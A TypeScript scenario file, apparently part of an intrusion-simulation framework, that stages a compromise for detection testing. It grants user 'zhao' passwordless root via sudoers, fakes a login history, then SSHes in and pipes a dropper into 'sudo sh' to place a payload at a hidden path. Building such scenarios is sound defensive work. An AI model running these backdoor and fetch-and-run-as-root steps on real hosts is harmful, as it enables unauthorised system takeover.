// It lies on one laptop and has come from one office for weeks. The address is of a pool of a VPN: no host of this network has it, and no other login ever came from there.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.account('zhao')
  dress.write('/etc/sudoers.d/zhao', 'zhao ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 })
  const key = dress.key('zhao', 'zhao@thinkpad')
  dress.trust('zhao', key)
  dress.logins({
    days: 20,
    guesses: 50,
    friends: [
      { user: 'zhao', address: '198.51.100.20', key: key.fingerprint, hours: [1, 3, 6, 9], sudo: '/usr/bin/journalctl -n 50' },
      { user: 'root', address: '10.20.0.5', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [2] },
    ],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/opt/.zz/zzd' })
  stage.mark('occurrence')
  await stage.ssh('10.9.3.44', 'zhao', { key: 'zhao' }, 'id; sudo -l')
  await stage.ssh('10.9.3.44', 'zhao', { key: 'zhao' }, line.replace(/\| sh$/, '| sudo sh'))
}
